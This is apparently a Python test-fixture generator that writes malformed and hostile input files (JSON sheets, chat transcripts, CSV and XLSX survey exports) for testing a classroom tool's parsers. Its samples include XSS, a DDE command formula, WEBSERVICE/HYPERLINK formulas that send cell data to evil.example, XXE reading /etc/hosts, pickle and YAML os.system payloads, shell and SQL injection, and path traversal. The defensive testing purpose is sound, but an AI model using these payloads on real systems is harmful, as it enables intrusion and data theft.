"""What somebody could hand to a class, by mistake or to do harm: the same bytes at every call.

There are files like those that learners hand in by a shared folder, chats in which result codes are
pasted, or things that look like codes, and spreadsheets, as a survey tool exports them or as nobody
should send them. A file's name says what it is or begins with, and how the name begins, what
becomes of it:

- `valid-`: odd, but everything in it counts, and nothing is told
- `mixed-`: the sound part counts, and the rest is told
- `quiet-`: no code and no damaged one, or a table without rows: nothing counts, nothing is told
- anything else: nothing counts, and it is told

Nothing here could do harm if somebody opened it: the formulas, scripts and macros are such in form
only, addresses are those reserved for examples or for one's own computer, and the people do not
exist.
"""

import base64
import bz2
import codecs
import csv
import gzip
import io
import json
import pickle
import random
import re
import struct
import zipfile
from xml.sax.saxutils import escape, quoteattr

from kit.classroom.codes import encode
from kit.classroom.sheets import ALPHABET, FORMAT, Sheet, statement_ids, to_json

IDS = statement_ids()

# Whoever hands all this in, and one of the class whose place is tried for.
MARK = "h0st1"
SURVEY = "h0sth0st"
VICTIM = "c1ass"

HTML = '<img src=x onerror="window.hacked=1">'
SCRIPT = "<script>window.hacked=1</script>"
PAGE = f"<!doctype html><html><body>{HTML}{SCRIPT}</body></html>"
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?"&A1,"4")'
RIGHT_TO_LEFT = "\u202e"
PERSON = "Åsa Öberg <asa.oberg@example.org>"
PICTURE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(64)
PROGRAM = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(100)
DOCUMENT = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(alert())>>>>\n"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


def rated(mark=MARK, when="1", role="student", seed=1):
    """Return a whole sheet, always the same."""
    dice = random.Random(seed)
    return Sheet(mark, when, role, bytes(dice.choices(range(1, 7), k=len(IDS))))


def each(start, cases, made=lambda case: case):
    """Return what is made of each case, by names that begin alike."""
    return {f"{start}-{name}": made(case) for name, case in cases.items()}


def numbered(start, cases, made=lambda case: case):
    """Return what is made of each case, by its number and what it begins with."""
    return {f"{start}-{at:02}{beginning(one)}": made(one) for at, one in enumerate(cases)}


def beginning(case):
    text = case if isinstance(case, str) else repr(case)
    return "-".join(["", *re.findall("[a-z0-9]+", text[:30].lower())])


def files(*groups, ending=""):
    """Return the bytes of files by their names, in order."""
    found = {f"{name}{ending}": case for group in groups for name, case in group.items()}
    return {name: written(case) for name, case in sorted(found.items())}


def written(case):
    """Return bytes as they are, a text in UTF-8, and all else in JSON."""
    if isinstance(case, bytes):
        return case
    return (case if isinstance(case, str) else json.dumps(case)).encode()


def zipped(parts, method=zipfile.ZIP_STORED):
    """Return an archive whose members are as old as an archive can say."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, part in parts if isinstance(parts, list) else parts.items():
            # A bomb is none the worse for being packed fast.
            archive.writestr(zipfile.ZipInfo(name), part, method, compresslevel=1)
    return file.getvalue()


# Class sheets

WHOLE = to_json(rated())


def document(**changed):
    """Return a document in which members have another value, or with `...` are missing."""
    made = {"kit": "class-sheet", "format": FORMAT, "sheets": [member()], **changed}
    return {key: value for key, value in made.items() if value is not ...}


def member(**changed):
    one = rated()
    made = {"mark": one.mark, "round": one.round, "role": one.role, "ratings": one.by_statement}
    return {key: value for key, value in {**made, **changed}.items() if value is not ...}


def sheet(**changed):
    return document(sheets=[member(**changed)])


def raw(made, text):
    """Return a document with what no program would write in the place of "RAW"."""
    return json.dumps(made).replace('"RAW"', text)


def sheets():
    """Return files that say they are class sheets, or lie where one is looked for."""
    rating = {"breadth-1": "RAW"}
    return files(
        each("torn", torn()),
        *(
            numbered(key, cases, lambda case, key=key, made=made: made(**{key: case}))
            for table, made in ((WRONG_ABOVE, document), (WRONG_WITHIN, sheet))
            for key, cases in table.items()
        ),
        {"round-another": sheet(round="2")},
        numbered("rating", WRONG_RATINGS, lambda value: sheet(ratings={"breadth-1": value})),
        numbered("raw-rating", RAW_RATINGS, lambda text: raw(sheet(ratings=rating), text)),
        numbered("raw-format", RAW_FORMATS, lambda text: raw(document(format="RAW"), text)),
        numbered("extra", EXTRA, lambda more: sheet(**more)),
        numbered("extra-above", EXTRA[::3], lambda more: document(**more)),
        {f"missing-{key}": sheet(**{key: ...}) for key in member()},
        {"key-in-upper-case": sheet(mark=..., MARK=MARK)},
        {"key-with-zero-width-space": sheet(mark=..., **{"mark\u200b": MARK})},
        each("twice", TWICE, lambda change: WHOLE.replace(*change, 1)),
        numbered("nested", NESTED),
        each("encoding", ENCODINGS),
        numbered("stranger", STRANGERS),
        numbered("rows", ROWS, rows),
        each("valid", VALID_SHEETS),
        ending=".json",
    )


def torn():
    places = [0, 1, 2, 9, 17, 30, 42, 60, 90, 130, 300, 600, len(WHOLE) - 12, len(WHOLE) - 2]
    return {f"at-{place:04}": WHOLE[:place] for place in places} | {
        "head-missing": WHOLE[40:],
        "middle-missing": WHOLE.replace("voice-1", "voi"),
        "and-written-on": WHOLE[:300] + WHOLE,
        "to-zeros": WHOLE[:500] + "\0" * 500,
    }


# In the document, and in its one sheet; `...` is not there.
WRONG_ABOVE = {
    "kit": (
        *(..., None, 1, ["class-sheet"], "answers", "class-ledger", "CLASS-SHEET", HTML),
        *("сlass-sheet", "class\u200b-sheet", "class-sheet\0"),
    ),
    "format": (..., None, 0, 2, -1, True, "1", [1], 10**3000),
    "sheets": (
        *(..., None, "h0st1", {"0": member()}, [], [None], [MARK], [[member()]], [{}] * 1000),
        *([member(), None], [member(), member()], [member(), member(mark="h0st2")]),
        [member(), member(mark=VICTIM)],
    ),
}
WRONG_WITHIN = {
    "mark": (
        *(None, "", 12345, [MARK], {"mark": MARK}, True, VICTIM, HTML, DDE, "{0.__class__}"),
        *("../..", "..\\..", "/etc/", "C:\\nul", f"{MARK}/../{VICTIM}", "$(id)`id`"),
        *("'; drop table sheets; --", "0ther0ne-1", MARK[:4], MARK + "0", MARK * 3000),
        *(MARK.upper(), "h0sti", f"{MARK}\n", f" {MARK}", f"{MARK}\0", "h0st\ud83d"),
        # Written with other letters and digits that look the same, and marks that nobody sees.
        *(f"{RIGHT_TO_LEFT}{MARK}", "h0s\u04421", "ｈ０ｓｔ１", "h\u0660st\u0661", "h0st1\u0301"),
    ),
    "round": ("0", "4", 1, None, True, ["1"], "THEN", "1/../../evil", SCRIPT, "\u0661", "1\n"),
    "role": (
        *("king", 0, True, ["student"], {"role": "student"}, "", PERSON, "STUDENT", HTML, DDE),
        *("student" * 2500, f"{RIGHT_TO_LEFT}tneduts"),
    ),
    "ratings": (
        *(None, [4] * len(IDS), "4" * len(IDS), {**rated().by_statement, "breadth-4": 4}),
        *({one: 4} for one in ("of-another-course-1", "__proto__", HTML, PERSON, "BREADTH-1")),
        {f"x{number}": 4 for number in range(1000)},
    ),
}
WRONG_RATINGS = (
    *(0, 6, -1, 3.5, True, False, None, "3", "DONT-KNOW", "dont_know", "", [4], {"rating": 4}),
    *(10**3000, "4" * 15_000, SCRIPT, "=1+3", "+4", f"{RIGHT_TO_LEFT}4", "\udc00", PERSON),
)
# Neither json nor a browser would write these.
RAW = ("1.0", "1e400", "NaN", "Infinity", "-0")
RAW_FORMATS = (*RAW, "9" * 5000, "0x1")
RAW_RATINGS = (
    *(*RAW, "1e0", "-1e400", "-Infinity", "-0.0", "04", "+4", "4" * 5000, "\u0664"),
    *("undefined", "2+2"),
)
EXTRA = (
    *({"name": PERSON}, {"e-mail": "asa.oberg@example.org"}, {"time": "2026-03-04T08:15:16+01:00"}),
    *({"__proto__": {"role": "politician"}}, {"constructor": {"prototype": {"hacked": True}}}),
    *({"__class__": "os.system"}, {HTML: HTML}, {"": None}, {"\ud83d": "\ude00"}),
)
TWICE = {
    "kit": ('"kit": "class-sheet"', '"kit": "class-sheet", "kit": "class-sheet"'),
    "mark": (f'"mark": "{MARK}"', f'"mark": "{VICTIM}", "mark": "{MARK}"'),
    "statement": ('"breadth-1"', '"breadth-1": 1, "breadth-1"'),
    "ratings": ('"ratings"', '"ratings": {}, "ratings"'),
    "mark-escaped": (f'"mark": "{MARK}"', f'"mark": "{MARK}", "\\u006dark": "{VICTIM}"'),
}


NESTED = (
    *("[" * 9000, "[" * 100_000, "[" * 9000 + "]" * 9000, '{"a":' * 3000),
    '{"a":' * 2500 + "1" + "}" * 2500,
    raw(sheet(ratings="RAW"), "[" * 4000 + "]" * 4000),
    raw(document(kit="RAW", sheets=[]), "[" * 4000 + "]" * 4000),
    sheet(ratings={"breadth-1": [[[[4]]]]}),
    # Not deep, but wide.
    *(raw(document(sheets="RAW"), "[" + one * 6000 + one[:2] + "]") for one in ("[],", "{},")),
    *({str(number): 0 for number in range(1700)}, WHOLE + " " * 25_000),
)


PLAIN = WHOLE.encode()
SWEDISH = json.dumps(sheet(namn="Åsa"), ensure_ascii=False)
ENCODINGS = {
    "utf-16": codecs.BOM_UTF16_LE + WHOLE.encode("utf-16-le"),
    "utf-16-big-endian": codecs.BOM_UTF16_BE + WHOLE.encode("utf-16-be"),
    "utf-16-without-mark": WHOLE.encode("utf-16-le"),
    "utf-32": codecs.BOM_UTF32_LE + WHOLE.encode("utf-32-le"),
    "utf-7": SWEDISH.encode("utf-7"),
    "latin-1": SWEDISH.encode("latin-1"),
    "two-marks": codecs.BOM_UTF8 * 2 + PLAIN,
    "mark-in-the-middle": PLAIN[:50] + codecs.BOM_UTF8 + PLAIN[50:],
    "half-a-character": PLAIN.replace(b"student", b"\xed\xa0\x80"),
    "overlong": PLAIN.replace(b"student", b"\xc0\xafstudent"),
    "cut-in-a-character": PLAIN[:-2] + "å".encode()[:1],
    "nul-between": PLAIN[:60] + b"\0" + PLAIN[60:],
    "nuls-alone": bytes(4096),
    "ebcdic": WHOLE.encode("cp500"),
    "base64": base64.b64encode(PLAIN),
    "gzip": gzip.compress(PLAIN, mtime=0),
    "bzip2": bz2.compress(PLAIN),
    "every-byte": bytes(range(256)),
}


ONE = {"ratings": {"breadth-1": 4}}
# No JSON, or another's.
STRANGERS = (
    *("null", "4", "{}", "[]", '"class-sheet"', {"kit": "answers", "format": 1, **ONE}),
    *({"cells": [], "metadata": {}, "nbformat": 4}, PAGE, f"{DDE}\n{LINK}\n", WHOLE + WHOLE),
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1">{SCRIPT}</svg>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
    *("__import__('os').system('touch hacked')\n", "#!/bin/sh\ntouch hacked\n", WHOLE + SCRIPT),
    *("!!python/object/apply:os.system ['touch hacked']\n", f"callback({WHOLE.strip()});\n"),
    # Nearly JSON, and text that would move what stands around it.
    *(f")]}}',\n{WHOLE}", "\n".join([json.dumps(member())] * 2), WHOLE.replace('"', "'")),
    *(WHOLE.replace('"kit"', '// the kit\n"kit"', 1), WHOLE.replace("}\n", "},\n")),
    *("\x1b[2J\x1b]0;hacked\x07\x1b[31m\x08", "\u2028\u2029" * 50, ("Z" + "\u0351" * 300) * 10),
    f"{RIGHT_TO_LEFT}{WHOLE[::-1]}",
    b"cos\nsystem\n(S'touch hacked'\ntR." + pickle.dumps([MARK], protocol=2),
    *(DOCUMENT, PROGRAM, PICTURE, OLD_OFFICE, zipped({"sheet-h0st1-1.json": WHOLE})),
    random.Random(1).randbytes(2000),
)


# Of the spreadsheet that the file says, or of another.
ROWS = (
    *(["0ther0ne-1", "0ther0ne-2"], [f"{SURVEY}-1", "0ther0ne-1"], [f"{SURVEY}-1", MARK]),
    *([f"{SURVEY}-1", VICTIM], [f"{SURVEY}-1", f"{SURVEY}-1"], [f"{SURVEY}-1/../../evil"]),
    *([f"{SURVEY}-{row}"] for row in ("0", "-1", "01", "1000000", "", "\u0661")),
)


def rows(marks):
    return document(sheets=[member(mark=one, ratings={"breadth-1": 4}) for one in marks])


BACKWARDS = dict(reversed(member().items()))
VALID_SHEETS = {
    "with-a-byte-order-mark": codecs.BOM_UTF8 + WHOLE.encode(),
    "with-line-endings-of-windows": WHOLE.replace("\n", "\r\n"),
    "in-one-line": document(),
    "in-another-order": dict(reversed(document(sheets=[BACKWARDS]).items())),
    "with-escaped-letters": WHOLE.replace("mark", "\\u006dark"),
    "without-an-answer": sheet(ratings={}),
    "filled-up-with-blanks": WHOLE.ljust(19_000),
}


# Result codes

CODE = encode(rated())
OTHER = encode(rated("h0st2", seed=2))
UNWRITTEN = f"{CODE[:9]}U{CODE[10:]}"  # a letter that no code has


def codes():
    """Return transcripts of chats, one of their senders called h0st1."""
    return files(
        each("damaged", damaged(), said),
        numbered("damaged-within", AROUND, lambda text: said(text.format(SPOILT))),
        each("disguised", DISGUISED, said),
        IMPOSSIBLE,
        numbered("quiet", QUIET),
        each("valid", VALID_CODES),
        numbered("valid-within", AROUND_WHOLE, lambda text: text.format(CODE)),
        ending=".txt",
    )


def said(text):
    return f"Anna 10:41\nmin kod: {text}\nYlva 10:42\nTack!\n"


def sealed(version, number):
    """Return a code with the right checksum, whatever it says, by long division."""
    whole = (version << 149 | number) << 16
    rest = whole
    for place in reversed(range(16, 170)):
        if rest >> place & 1:
            rest ^= 0x11021 << (place - 16)
    plain = "".join(ALPHABET[(whole | rest) >> 5 * at & 31] for at in reversed(range(34)))
    return "-".join(plain.upper()[at : at + 5] for at in range(0, 34, 5))


SPOILT = CODE[:9] + ("7" if CODE[9] != "7" else "8") + CODE[10:]


def damaged():
    groups = CODE.split("-")
    plain = CODE.replace("-", "")
    at = next(place for place in range(7, 30) if plain[place] != plain[place + 1])
    many = [f"{CODE[:9]}U{number:03}{CODE[13:]}" for number in range(300)]
    return {
        "one-character-wrong": SPOILT,
        "first-character-wrong": f"K{CODE[1:]}",
        "last-character-wrong": CODE[:-1] + ("7" if CODE[-1] != "7" else "8"),
        "one-character-lost": CODE[:9] + CODE[10:],
        "one-character-too-many": f"{CODE[:9]}7{CODE[9:]}",
        "two-swapped": plain[:at] + plain[at + 1] + plain[at] + plain[at + 2 :],
        "letter-nobody-writes": UNWRITTEN,
        "one-group-lost": "-".join(groups[:2] + groups[3:]),
        "last-group-lost": "-".join(groups[:-1]),
        "end-lost": CODE[:17],
        "one-group-twice": "-".join([*groups[:3], *groups[2:]]),
        "groups-reversed": "-".join([groups[0], *groups[-2:0:-1], groups[-1]]),
        "groups-swapped": "-".join([groups[0], groups[2], groups[1], *groups[3:]]),
        "two-mixed": CODE[:20] + OTHER[20:],
        "checksum-of-another": CODE[:-4] + OTHER[-4:],
        "zeros-at-the-end": f"{CODE[:-4]}0000",
        "in-two-lines-one-lost": f"{CODE[:17]}\n> {CODE[19:]}",
        "in-lower-case": SPOILT.lower(),
        **{f"with-{ord(sign):04x}": SPOILT.replace("-", sign) for sign in " –"},
        "without-hyphens": SPOILT.replace("-", ""),
        "quoted-ten-times": "".join(f"{'> ' * depth}{SPOILT}\n" for depth in range(10)),
        "of-a-hundred-people": "\n".join(many[:99]),
        "of-three-hundred-people": "\n".join(many),
    }


# What a code stands within, in the place of {}.
AROUND = (
    *("<b>{}</b>", "<script>{}</script>", HTML + "{}", "**{}** [click](javascript:alert(1))"),
    *("```\n{}\n```", '="{}"', "\x1b[31m{}\x1b[0m", RIGHT_TO_LEFT + "{}"),
)
AROUND_WHOLE = (
    *("<p class=x1>Anna: <b>{}</b></p>" + SCRIPT, "<script>window.hacked='{}'</script>"),
    *('<a title="{}" href="https://x.example">min kod</a>', "<div <b <<i>>{}</b </x"),
    *("<!-- {} -->", "priset är <x kr\nAnna: {}\nYlva: svaret -> ja", "```\n{}\n```"),
    *("| Anna | **{}** | ![x](javascript:alert(1)) |", '=HYPERLINK("https://x.example";"{}")'),
    *(RIGHT_TO_LEFT + " {}\u202c", "\x1b[31m {}\x1b[0m", "\0" * 50 + "{}" + "\0" * 50),
    *("X" * 4000 + "\n.{}. " + "X" * 4000, "-" * 4000 + " {} " + "-" * 4000, "minkod{}tack"),
)


# A character only looks like the right one, and is another.
DISGUISED = {
    "roman-numeral-first": "\u2169" + CODE[1:],
    "accent-on-a-letter": f"{CODE[:3]}\u0301{CODE[3:]}",
    "emoji-within": f"{CODE[:20]}😀{CODE[21:]}",
    "arabic-digits-at-the-end": f"{CODE[:-4]}\u0661\u0662\u0663\u0664",
    "stars-at-the-end": f"{CODE[:-4]}****",
    "bold-mathematical-end": f"{CODE[:-4]}𝐀𝐁𝟎𝟏",
}
IMPOSSIBLE = {
    "version-newer-y": said(sealed(30, 12345)),
    "version-newer-z": said(sealed(31, 2**149 - 12345**10)),
    "version-older-w": said(sealed(28, 2**140 + 12345)),
    "version-0": said(sealed(0, 2**140 + 12345)),
    "impossible-mark-and-right-checksum": said(sealed(29, 2**25 * 4 * 6 * 7**42)),
    "impossible-fields-and-right-checksum": said(sealed(29, 2**149 - 12345**10)),
    "impossible-x-and-zeros": "x0" * 4500,
    "impossible-product-key": said("AB1CD-EF2GH-JK3MN-PQ4RS-TV5WX"),
}


TOKEN = base64.b64encode(random.Random(2).randbytes(300)).decode()
QUIET = (
    *("", bytes(range(256)), "\n \t\r\n" * 500, "X" * 9000, "X - " * 2500, "\"'`" * 3000),
    *("–—" * 2000 + "-" * 5000, "<" * 5000 + ">" * 5000, "<a " * 3000, PAGE, TOKEN),
    *("&" * 9000 + "&#x110000;&#xD800;&#0;&nosuch;&#99999999;" * 100, "\ufdfa" * 2000),
    *("\x1b[2J\x1b]0;hacked\x07" * 50, f"{RIGHT_TO_LEFT}edok nim\u202c\u2066\u2069" * 50),
    *("\u200b\u200c\u200d\ufeff" * 500, ("Z" + "\u0351" * 200) * 10, "👩‍👩‍👧‍👦😀👍🏽" * 100),
    *(f"{DDE}\n{LINK}\n@SUM(1)\n+1\n-1\n", f"data:text/html;base64,{TOKEN}"),
    "javascript:alert(document.cookie)//https://x.example",
    "{0.__class__.__init__.__globals__} {{7*7}} ${7*7} %s%n",
    # As people write, and machines.
    said("hej! Jag tar det sedan, exakt sex extra saker måste bli klara först xD"),
    said("XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXXX-XXXX"),
    "There which about after where these words would never make " * 20,
    "https://region.example/motet?id=4fk29x8q7z1m3n5p6r8t0v2w4x6y8z0a1\n" * 20,
    to_json(rated("h0st2")),
    """\
        550e8400-e29b-41d4-a716-446655440000, 9fceb02d0ae598e95dc970b74767f19372d61af8
        Message-ID: <AM9PR07MB7234F3A9C2D1E5B8A6@AM9PR07MB7234.x.example>
        Ring 070-123 45 67 eller +46 8 123 456 78. 19811218-9876 och 232100-0016
        IBAN SE45 5000 0000 0583 9825 7466, OCR 7350012345678. ABC123, DEF45G, XYZ789 och XAB12C.
        Kl 0800 1030 1200 1315 1500 fika den 2026-03-12T10:41:58.123Z.
        2001:db8:85a3::8a2e:370:7334 00:1B:44:11:3A:B7 192.0.2.7\n"""
    * 20,
)


VALID_CODES = {
    "zero-width-between": "\u200b".join(CODE),
    "full-width": "".join(chr(ord(one) + 0xFEE0) for one in CODE),
    "in-entities": "".join(f"&#{ord(one)};" for one in CODE),
    "in-a-quoting-mail": f"> > {CODE[:18]}=\n{CODE[18:]}\n",
    "twice": f"{CODE}\n> {CODE}\n",
    "in-lower-case-with-l-for-1": CODE.lower().replace("1", "l").replace("0", "o"),
    "in-cyrillic-letters": CODE.translate(str.maketrans("ABCEHKMPTX", "АВСЕНКМРТХ")),
    "in-greek-letters": CODE.translate(str.maketrans("ABEHKMNPTXZ", "ΑΒΕΗΚΜΝΡΤΧΖ")),
    "in-the-encoding-of-windows": f"Åsa:\x80 {CODE}\r\n".encode("latin-1"),
}


# Spreadsheets


def surveys():
    """Return what a survey tool may export, or somebody may send instead."""
    return files(
        files(
            numbered("mixed-formula", FORMULAS, lambda one: table(person(one))),
            numbered("mixed-cell", CELLS, lambda one: table(person(one))),
            numbered("cell", CODES_OF_TOOLS, lambda one: table(person(one))),
            {"valid-cell-nan": table(person("NaN"))},
            numbered("valid-header", HEADINGS, beside),
            *(numbered(start, cases) for start, cases in TABLES.items()),
            {"valid-encoding-of-windows": WORDS.encode("cp1252")},
            ending=".csv",
        ),
        NO_TABLES,
        files(workbooks(), ending=".xlsx"),
        archives(),
        members_with_names(),
    )


HEADER = ["Namn", "role", "round", *IDS]


def person(*changed, role="student", when="1", level=4):
    """Return a person's row, in which the answers begin with these."""
    return ["Anna", role, when, *[*changed, *[level] * len(IDS)][: len(IDS)]]


def table(*rows, delimiter=";", header=HEADER):
    file = io.StringIO()
    csv.writer(file, delimiter=delimiter).writerows([header, *rows])
    return file.getvalue()


def remarked(remark, *answers):
    return table([*person(*answers), remark], header=[*HEADER, "Övrigt"])


def beside(heading):
    return table([heading, *person()], header=[heading, *HEADER])


FORMULAS = (
    *("=1+3", "+1+3", "-2+6", "@SUM(1+3)", "\t=1+3", "\r=1+3", "＝1+3", "'=1+3", DDE, LINK),
    '=WEBSERVICE("https://evil.example/?"&A1)',
)
CELLS = (
    *(HTML, SCRIPT, PERSON, "3,5", "1e400", "4 – saknas", "4 5", "2026-04-04", "TRUE", "\u0664"),
    *("IV", "(" * 900 + "4", "4" * 5000, "\ufdfa" * 1000, "4" + "\u0351" * 900, "4\n5\r\n6"),
    *("../../../etc/passwd", "{0.__class__}{value}%s"),
)
# One of these makes codes of all numbers.
CODES_OF_TOOLS = ("6", "0", "-4", "4⁴")
HEADINGS = (
    *(HTML, DDE, PERSON, "__proto__", "../../evil", f"{RIGHT_TO_LEFT}1.1", "[" * 900),
    *("Läge och resurser, " * 50, "\ufdfa" * 900),
)


EXPORT = table(person(), person(level=2))
HEAD, ROW, _ = EXPORT.splitlines(keepends=True)
WORDS = remarked("PÅ", *["2 – påbörjat"] * len(IDS))
# Of which nothing counts, some, and all.
TABLES = {
    "table": (
        *(f"Kod\r\n{UNWRITTEN}\r\n", HEAD, "1.1", "", " \r\n;;;\r\n" * 50),
        table(["Anna", "4"], header=["Namn", "Betyg"]),
        # A header too far down, quotations, delimiters, and too much of all.
        *("titel\r\n" * 25 + EXPORT, HEAD + '"Anna' + EXPORT, f'"{EXPORT}', '"' * 9001),
        *(HEAD + '"An"na;4;4\r\n' + ROW, ";,\t" * 3000 + "x", "sep=,\r\n" + EXPORT, "sep=;\r\n"),
        *(";" * 600 + "4", "1.1\r\n" + "4\n" * 10_500, HEAD + ";" * 600 + "x\r\n"),
        # Tables of other kinds, and none.
        f"<html><table><tr><td>1.1</td></tr><tr><td>{HTML}4</td></tr></table></html>",
        '<?xml version="1.0"?><Workbook><Worksheet/></Workbook>',
        *(to_json(rated("h0st2")), "{\\rtf1\\ansi 4}", "| 1.1 | 1.2 |\n|---|---|\n| 4 | 2 |\n"),
        'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("CALC.EXE")\r\nE\r\n',
        'TABLE\r\n0,1\r\n"EXCEL"\r\nDATA\r\n0,0\r\n""\r\n',
        *(
            "\x1b[2J\x1b[31m;\x07\r\n",
            bytes(3000),
            bytes(range(1, 256)) * 4,
            EXPORT.encode("cp500"),
        ),
        codecs.BOM_UTF32_BE + EXPORT.encode("utf-32-be"),
        gzip.compress(random.Random(4).randbytes(600), mtime=0),
    ),
    "mixed-table": (
        table([*person(), "1", "1"], header=[*HEADER, "1.1", "breadth-1"]),
        *(table(person(role=HTML)), table(person(role=PERSON))),
        *(table(person(), person(when=SCRIPT)), table(person(), person(when="9" * 5000))),
        f"Kod\r\n{CODE}\r\n{UNWRITTEN}\r\n",
        EXPORT[: len(HEAD) + len(ROW) + 20].replace("2;2", "bra;2"),
    ),
    "valid-table": (
        table(person(), ["Åsa", *[""] * (len(HEADER) - 1)]),
        *(table(person('4"')), table(person(f"{RIGHT_TO_LEFT}4")), table(person(), delimiter="\t")),
        *("sep=;\r\n" + EXPORT, EXPORT.replace("\r\n", "\r"), f"\ufeff{EXPORT}"),
        *(remarked("x" * 18_000), remarked("".join([*FORMULAS, *CELLS])), remarked("P\0")),
        table(person(), *[[]] * 900, person(level=2)),
        *(EXPORT.replace("\r\n", ";" * 900 + "\r\n"), f"Kod\r\n{HTML}{CODE}\r\n"),
        # In other encodings, and in two or none.
        *(EXPORT.encode("utf-16-le"), codecs.BOM_UTF16_LE + EXPORT.encode("utf-16-le")),
        WORDS.encode().replace("PÅ".encode(), b"P\xc5"),
        WORDS.encode().replace("PÅ".encode(), b"\xed\xa0\x80"),
        codecs.BOM_UTF8 + b"breadth-1;x\r\n4;\xc5\r\n",
        WORDS.encode().replace("PÅ".encode(), b"\xc0\xaf"),
    ),
}
NO_TABLES = {
    "picture.png": PICTURE,
    "document.pdf": DOCUMENT,
    "program.xlsx": PROGRAM,
    "random.xlsx": random.Random(3).randbytes(3000),
    "old-excel.xls": OLD_OFFICE,
    "locked-by-a-password.xlsx": OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"),
}


# Workbooks

SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {
    "types": "[Content_Types].xml",
    "relations": "_rels/.rels",
    "workbook": "xl/workbook.xml",
    "pointers": "xl/_rels/workbook.xml.rels",
    "texts": "xl/sharedStrings.xml",
    "worksheet": "xl/worksheets/sheet1.xml",
    "styles": "xl/styles.xml",
}


def relations(**targets):
    found = "".join(
        f'<Relationship Id="{one}" Type="{OFFICE}/{one.rstrip("0123456789")}" '
        f"Target={quoteattr(target)}/>"
        for one, target in targets.items()
    )
    return f'<Relationships xmlns="{OFFICE}">{found}</Relationships>'


def inline(value):
    return f'<c t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def row(*cells):
    return f"<row>{''.join(cells)}</row>"


def number(value):
    return f"<c><v>{value}</v></c>"


# As small as a workbook of a survey can be.
TOP = row(*map(inline, HEADER[:9]))
SOUND = row(inline("Anna"), inline("student"), inline("1"), *[number(4)] * 6)


def book(data=SOUND, strings="<si><t>4</t></si>", **changed):
    """Return the parts of a workbook with a header and these rows; what is None is missing."""
    pointed = {"worksheet1": "worksheets/sheet1.xml", "sharedStrings": "sharedStrings.xml"}
    if "styles" in changed:
        pointed["styles"] = "styles.xml"
    made = {
        "types": "<Types/>",
        "relations": relations(officeDocument=PARTS["workbook"]),
        "workbook": f'<workbook xmlns="{SPREADSHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="1" '
        'r:id="worksheet1"/></sheets></workbook>',
        "pointers": relations(**pointed),
        "texts": f'<sst xmlns="{SPREADSHEET}">{strings}</sst>',
        "worksheet": f'<worksheet xmlns="{SPREADSHEET}"><sheetData>{TOP}{data}</sheetData>'
        "</worksheet>",
        **changed,
    }
    return {PARTS[name]: part for name, part in made.items() if part is not None}


BOOK, POINTERS, SHEET = (book()[PARTS[one]] for one in ("workbook", "pointers", "worksheet"))


def leading_to(target):
    return book(pointers=POINTERS.replace("worksheets/sheet1.xml", target))


def with_cell(cell):
    """Return a workbook that is sound but for the first answer."""
    return book(row(inline("Anna"), inline("student"), inline("1"), cell, *[number(4)] * 5))


MIXED_CELLS = (
    *("<c><f>1+3</f></c>", "<c><f>cmd|' /C calc'!A0</f></c>", inline(DDE), inline(HTML)),
    *('<c><f t="array" ref="A1:XFD1048576">1+3</f></c>', '<c t="e"><v>#REF!</v></c>'),
    *('<c t="b"><v>1</v></c>', '<c t="evil"><v>x</v></c>', number("1e400"), number(3.5)),
    *(f"<c t='str'><v><![CDATA[{SCRIPT}]]></v></c>", inline("4" * 10_000), inline("4\n5")),
    *(inline("_x0000__x202E_4_x001B_[31m_x000D_"), inline("_xD83D_4")),
)
BROKEN_CELLS = (
    *(number("four"), number("4&lt;script&gt;"), number(-4), "<c><c><v>5</v></c><v>44</v></c>"),
    # Shared texts that are not there, and places where no cell can be.
    *('<c t="s"><v>7</v></c>', f'<c t="s"><v>{"9" * 4000}</v></c>'),
    f'<c t="s"><v>{escape(HTML)}</v></c>',
    *(
        f'<c r="{place}"><v>4</v></c>'
        for place in ("XFD1048576", "SG2", "D10001", "", "d2", "../../evil", "D0", "D" + "9" * 4000)
    ),
)
HARMLESS_CELLS = (
    *("<c><v><![CDATA[4]]></v></c>", number("NaN"), "<c><v><!-- 5 -->4</v></c>"),
    *("<c><v><?php system('calc')?>4</v></c>", '<c t="s"><v>0</v></c>'),
    *(inline(f"{RIGHT_TO_LEFT}4"), '<c s="99999"><v>4</v></c>'),
    "<c><evil><worse/></evil><v>4</v></c>",
    "<c " + " ".join(f'a{n}="{n}"' for n in range(200)) + "><v>4</v></c>",
)
XML_CELLS = (
    *(number("&#xD800;"), number("&#0;4"), number("\1" + "4")),
    '<c t="n" t="s"><v>0</v></c>',
)

# Below the header.
ODD_ROWS = {
    "row-0": '<row r="0"><c><v>4</v></c></row>',
    "row-negative": '<row r="-3"><c><v>4</v></c></row>',
    "row-half": '<row r="1.5"/>',
    "row-of-html": f"<row r={quoteattr(HTML)}/>",
    "row-without-end": f'<row r="{"9" * 5000}"/>',
    "row-far-off": '<row r="1048576"><c><v>4</v></c></row>',
    "row-unclosed": "<row>",
    "nested-3000-deep": "<a>" * 3000 + "</a>" * 2999,
    "valid-nested-3000-deep": SOUND + "<a>" * 3000 + "</a>" * 3000,
    "valid-a-thousand-empty-rows": SOUND + "<row/>" * 1000,
    "valid-last-row-of-all-is-empty": SOUND + '<row r="1048576"/>',
    "row-hidden": SOUND.replace("<row>", '<row hidden="1">'),
    "valid-name-of-4000-letters": SOUND + f"<{'a' * 4000}/>" * 2,
    "valid-namespace-of-9000-letters": SOUND + f'<x xmlns:a="{"u" * 9000}">{"<a:b/>" * 300}</x>',
    "valid-include": SOUND
